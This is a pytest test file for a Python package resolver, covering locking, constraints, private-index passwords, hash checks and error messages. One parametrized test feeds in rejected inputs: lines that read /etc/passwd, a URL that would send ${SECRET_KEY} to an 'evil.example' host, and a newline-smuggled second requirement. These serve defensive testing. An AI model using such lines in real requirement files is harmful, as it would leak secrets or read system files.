"""Resolving requirements: the right packages, or an error with a way out."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from builds.imaging.download.fetch import fetch
from builds.imaging.lock import Lock
from builds.imaging.pip.lines.requirement import checked
from builds.imaging.pip.resolve import resolve
from builds.imaging.reporting import ImageError
from builds.imaging.workshop import Workshop
from tests.builds.imaging.conftest import Recorder
from tests.builds.imaging.making import empty_base, make_wheel
from tests.builds.imaging.serving import Index


@pytest.fixture
def index(tmp_path: Path) -> Iterator[Index]:
    """An index with some packages that need one another."""
    folder = tmp_path / "index"
    make_wheel(folder, "shop", "1.0", needs=["basket>=1", "paper"])
    make_wheel(folder, "shop", "2.0", needs=["basket>=2", "paper"])
    make_wheel(folder, "basket", "1.0")
    make_wheel(folder, "basket", "2.0")
    make_wheel(folder, "basket", "2.1")
    make_wheel(
        folder, "paper", "1.0", needs=["shop-extras; extra == 'all'", "windows-only; sys_platform == 'win32'"]
    )
    make_wheel(folder, "Odd_Name.x", "1.0")
    served = Index(folder)
    with served.server.running():
        yield served


@pytest.fixture
def shopping(workshop: Workshop, index: Index) -> Workshop:
    return replace(workshop, index_url=index.url)


def versions(lock: Lock) -> dict[str, str]:
    return {package.name: package.version for package in lock.packages}


def refusal(workshop: Workshop, *requirements: str) -> ImageError:
    with pytest.raises(ImageError) as refused:
        resolve(empty_base(), requirements, workshop, Recorder())
    return refused.value


def test_the_lock_holds_exactly_what_is_needed_and_says_why(shopping: Workshop) -> None:
    lock = resolve(empty_base(), ["shop"], shopping, Recorder())

    assert versions(lock) == {"shop": "2.0", "basket": "2.1", "paper": "1.0"}
    assert {p.name: (p.requested, p.needed_by) for p in lock.packages} == {
        "shop": (True, ()),
        "basket": (False, ("shop",)),
        "paper": (False, ("shop",)),
    }
    assert (lock.python, lock.platform) == ("3.11.7", "manylinux_2_36_x86_64")


def test_a_lock_survives_being_written_and_read(shopping: Workshop) -> None:
    lock = resolve(empty_base(), ["shop", "odd.name-X"], shopping, Recorder())

    assert Lock.from_json(lock.to_json()) == lock
    assert Lock.from_json(lock.to_json()).digest == lock.digest
    assert lock.named("odd-name-x") is not None


def test_the_versions_of_the_previous_lock_stay_when_a_package_is_added(shopping: Workshop) -> None:
    before = resolve(empty_base(), ["basket==2.0"], shopping, Recorder())

    after = resolve(empty_base(), ["basket", "shop"], shopping, Recorder(), previous=before)

    assert versions(after) == {"basket": "2.0", "shop": "2.0", "paper": "1.0"}


def test_a_previous_lock_gives_way_to_what_is_asked_now(shopping: Workshop) -> None:
    before = resolve(empty_base(), ["basket==1.0"], shopping, Recorder())

    after = resolve(empty_base(), ["shop==2.0"], shopping, Recorder(), previous=before)

    assert versions(after)["basket"] == "2.1"


def test_what_was_published_a_moment_ago_is_found(shopping: Workshop, index: Index) -> None:
    resolve(empty_base(), ["basket"], shopping, Recorder())
    make_wheel(index.folder, "basket", "3.0")

    lock = resolve(empty_base(), ["basket==3.0"], shopping, Recorder())

    assert versions(lock) == {"basket": "3.0"}


def test_an_older_version_than_one_would_expect_is_pointed_out(shopping: Workshop, index: Index) -> None:
    make_wheel(index.folder, "shop", "3.0", needs=["paper==9"])
    reporter = Recorder()

    lock = resolve(empty_base(), ["shop"], shopping, reporter)
    again = Recorder()
    resolve(empty_base(), ["shop"], shopping, again, previous=lock)

    assert versions(lock)["shop"] == "2.0"
    assert "Note: shop 2.0 was taken, not 3.0" in reporter.log
    assert "Note:" not in again.log


@pytest.mark.parametrize("option", ["--constraint basket<2.1", "-c basket<2.1", "--constraint=basket<2.1"])
def test_a_constraint_holds_what_is_needed_and_asks_for_nothing_itself(
    shopping: Workshop, option: str
) -> None:
    lock = resolve(empty_base(), ["shop", option, "--constraint odd-name.x>=1"], shopping, Recorder())

    assert versions(lock) == {"shop": "2.0", "basket": "2.0", "paper": "1.0"}
    assert {p.name for p in lock.packages if p.requested} == {"shop"}
    basket = lock.named("basket")
    assert basket is not None
    assert basket.needed_by == ("shop",)


def test_constraints_alone_ask_for_nothing(workshop: Workshop) -> None:
    unreachable = replace(workshop, index_url="http://127.0.0.1:1/simple")

    assert resolve(empty_base(), ["--constraint basket<2"], unreachable, Recorder()).packages == ()


def test_no_requirements_are_an_empty_lock_and_need_no_index(workshop: Workshop) -> None:
    unreachable = replace(workshop, index_url="http://127.0.0.1:1/simple")

    lock = resolve(empty_base(), ["", "# nothing", "--index-url http://127.0.0.1:1"], unreachable, Recorder())

    assert lock.packages == ()
    assert lock.base_digest == empty_base().digest


def test_the_definitions_own_index_is_asked_instead_of_the_studios(
    workshop: Workshop, index: Index, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("UV_INDEX_URL", "http://127.0.0.1:1/simple")
    elsewhere = replace(workshop, index_url="http://127.0.0.1:1/simple")

    lock = resolve(empty_base(), [f"--index-url {index.url}", "basket"], elsewhere, Recorder())

    assert versions(lock) == {"basket": "2.1"}


def test_an_extra_index_is_asked_too(shopping: Workshop, tmp_path: Path) -> None:
    make_wheel(tmp_path / "more", "sauce", "1.0")
    more = Index(tmp_path / "more")
    with more.server.running():
        lock = resolve(
            empty_base(), [f"--extra-index-url={more.url}", "sauce", "paper"], shopping, Recorder()
        )

    assert versions(lock) == {"sauce": "1.0", "paper": "1.0"}


def test_a_password_of_an_index_is_used_and_kept_out_of_lock_and_log(
    workshop: Workshop, tmp_path: Path
) -> None:
    make_wheel(tmp_path / "private", "sauce", "1.0")
    private = Index(tmp_path / "private", login="ann:s3cret")
    with private.server.running():
        url = private.url.replace("http://", "http://ann:s3cret@")
        reporter = Recorder()
        mine = replace(workshop, index_url=url)
        lock = resolve(empty_base(), ["sauce"], mine, reporter)
        fetched = fetch(lock, mine, reporter)
        stranger = refusal(replace(workshop, index_url=private.url, cache=tmp_path / "other"), "sauce")

    assert fetched.wheels[0].size > 0
    assert "s3cret" not in lock.to_json() + reporter.log + str(stranger)
    assert stranger.code in ("index-refused", "package-not-found")


@pytest.mark.parametrize(
    ("requirements", "code", "says"),
    [
        (["nosuch"], "package-not-found", "Package nosuch was not found"),
        (["pkg_resources==0.0.0"], "package-not-found", "Package pkg-resources was not found"),
        (["shop==9"], "no-matching-distribution", "shop==9"),
        (["shop==2.0", "basket<2"], "conflict", "basket"),
        (["shop=1.0"], "bad-spec", "shop=1.0"),
        (["shop[all"], "bad-spec", "shop[all"),
        (["-e ."], "bad-spec", "-e"),
        (["-r /etc/passwd"], "bad-spec", "-r"),
        (["-c constraints.txt"], "bad-spec", "-c"),
        (["--constraint /etc/passwd"], "bad-spec", "/etc/passwd"),
        (["--constraint shop @ file:///etc/passwd"], "bad-spec", "file:///etc/passwd"),
        (["shop", "--constraint shop>=9"], "conflict", "shop>=9"),
        (["./shop"], "bad-spec", "./shop"),
        (["/etc/passwd"], "bad-spec", "/etc/passwd"),
        (["shop @ file:///etc/passwd"], "bad-spec", "file:///etc/passwd"),
        (["shop @ git+https://github.com/a/b"], "bad-spec", "repository of source code"),
        (["git+https://github.com/a/b"], "bad-spec", "repository of source code"),
        (["git+file:///etc"], "bad-spec", "repository of source code"),
        (["git+ssh://git@127.0.0.1/a/b"], "bad-spec", "repository of source code"),
        (["-e git+https://github.com/a/b#egg=b"], "bad-spec", "repository of source code"),
        (["shop @ https://127.0.0.1:1/shop-1.0.tar.gz"], "bad-spec", "not that of a wheel"),
        (["https://127.0.0.1:1/archive/main.zip"], "bad-spec", "not that of a wheel"),
        (["shop+basket"], "bad-spec", "not a package's name"),
        (["--find-links /srv/wheels", "shop"], "bad-spec", "--find-links"),
        (["shop-1.0-py3-none-any.whl"], "bad-spec", "shop-1.0"),
        (["shop @ https://${SECRET_KEY}.evil.example/x.whl"], "bad-spec", "variables"),
        (["shop\n-e ."], "bad-spec", "another line"),
    ],
)
def test_unresolvable_requirements_are_explained_plainly(
    shopping: Workshop, requirements: list[str], code: str, says: str
) -> None:
    error = refusal(shopping, *requirements)

    assert (error.code, error.fault) == (code, "author")
    assert says in error.message
    assert error.help


def test_the_address_of_a_wheel_is_enough_to_ask_for_it(shopping: Workshop, index: Index) -> None:
    """As models are handed out that no index has."""
    address = f"{index.server.url}/files/shop-1.0-py3-none-any.whl"
    reporter = Recorder()

    lock = resolve(empty_base(), [address], shopping, reporter)

    assert versions(lock) == {"shop": "1.0", "basket": "2.1", "paper": "1.0"}
    shop = lock.named("shop")
    assert shop is not None
    assert (shop.url, shop.requested) == (address, True)
    assert "could not be found out" not in reporter.log


@pytest.mark.parametrize(
    "line", ["{url}#sha256={digest}", "shop @ {url}#sha256={digest} ; python_version > '3'"]
)
def test_a_wheel_with_its_hash_in_the_address_is_a_requested_package(
    shopping: Workshop, index: Index, line: str
) -> None:
    url = f"{index.server.url}/files/shop-1.0-py3-none-any.whl"
    wanted = digest(index, "shop-1.0-py3-none-any.whl")

    lock = resolve(empty_base(), [line.format(url=url, digest=wanted)], shopping, Recorder())

    shop = lock.named("shop")
    assert shop is not None
    assert (shop.sha256, shop.requested, shop.needed_by) == (wanted, True, ())


def test_a_wheel_on_condas_own_disk_is_refused_with_a_correction() -> None:
    """Requirements as `pip freeze` prints them in a conda environment."""
    line = "numpy @ file:///home/conda/work/dist/numpy-1.26.4-cp311-cp311-linux_x86_64.whl#sha256=d08e"

    with pytest.raises(ImageError) as refused:
        checked([line])

    assert "Write numpy==1.26.4" in refused.value.help


def test_a_withdrawn_version_is_taken_only_when_pinned_and_the_log_says_so(
    shopping: Workshop, index: Index
) -> None:
    """As by pip."""
    index.withdrawn["basket-2.1-py3-none-any.whl"] = "eats the cheese"
    free, pinned = Recorder(), Recorder()

    chosen = resolve(empty_base(), ["basket"], shopping, free)
    request = resolve(empty_base(), ["basket==2.1"], shopping, pinned)

    assert (versions(chosen), versions(request)) == ({"basket": "2.0"}, {"basket": "2.1"})
    assert "yanked" not in free.log
    assert pinned.log.count('Warning: `basket==2.1` is yanked (reason: "eats the cheese")') == 1


def test_an_unknown_extra_and_a_package_for_another_platform_are_reported(
    shopping: Workshop,
) -> None:
    reporter = Recorder()
    lines = ["basket[nosuch]", "Odd_Name.x; sys_platform == 'win32'", "paper; python_version > '3'"]

    lock = resolve(empty_base(), lines, shopping, reporter)

    assert set(versions(lock)) == {"basket", "paper"}
    assert "does not have an extra named `nosuch`" in reporter.log
    assert 'Odd_Name.x is left out: “sys_platform == "win32"” is not so on this base' in reporter.log
    assert reporter.log.count("left out") == 1


def digest(index: Index, wheel: str) -> str:
    return hashlib.sha256((index.folder / wheel).read_bytes()).hexdigest()


def test_a_file_is_taken_when_it_has_one_of_the_hashes_of_the_definition(
    shopping: Workshop, index: Index
) -> None:
    """Requirements as `pip-compile --generate-hashes` writes them."""
    basket, other = digest(index, "basket-2.0-py3-none-any.whl"), f"--hash=sha256:{'0' * 64}"

    lock = resolve(
        empty_base(),
        ["--require-hashes", f"basket==2.0 {other} --hash=sha256:{basket.upper()}"],
        shopping,
        Recorder(),
    )

    assert [(p.name, p.sha256) for p in lock.packages] == [("basket", basket)]


@pytest.mark.parametrize("version", ["==2.0", "@ {0}/files/basket-2.0-py3-none-any.whl"])
def test_a_file_with_another_hash_than_the_definition_gives_is_refused(
    shopping: Workshop, index: Index, version: str
) -> None:
    request = f"basket {version.format(index.server.url)} --hash=sha256:{'0' * 64}"
    error = refusal(shopping, request)

    assert (error.code, error.fault) == ("digest-mismatch", "author")
    assert "basket" in error.message
    assert digest(index, "basket-2.0-py3-none-any.whl") in error.message


def test_one_hash_makes_hashes_necessary_for_all_that_is_installed(shopping: Workshop, index: Index) -> None:
    error = refusal(shopping, f"shop==1.0 --hash=sha256:{digest(index, 'shop-1.0-py3-none-any.whl')}")

    assert error.code == "no-checksum"
    assert "basket is needed too" in error.message


def test_hashes_that_cannot_be_compared_are_refused(shopping: Workshop) -> None:
    error = refusal(shopping, f"basket==2.0 --hash=sha512:{'0' * 128}")

    assert error.code == "bad-spec"
    assert "sha256" in error.message


def test_a_package_without_a_wheel_for_this_python_is_reported(shopping: Workshop, index: Index) -> None:
    wheel = make_wheel(index.folder, "native", "1.0")
    wheel.rename(index.folder / "native-1.0-cp27-cp27m-win32.whl")

    error = refusal(shopping, "native")

    assert error.code == "no-matching-distribution"
    assert "native" in error.message


@pytest.mark.usefixtures("one_attempt")
def test_an_index_that_does_not_answer_is_nobodys_fault_here(workshop: Workshop) -> None:
    error = refusal(replace(workshop, index_url="http://ann:s3cret@127.0.0.1:1/simple"), "shop")

    assert (error.code, error.fault) == ("index-unreachable", "outside")
    assert "127.0.0.1:1" in error.message
    assert "s3cret" not in str(error)
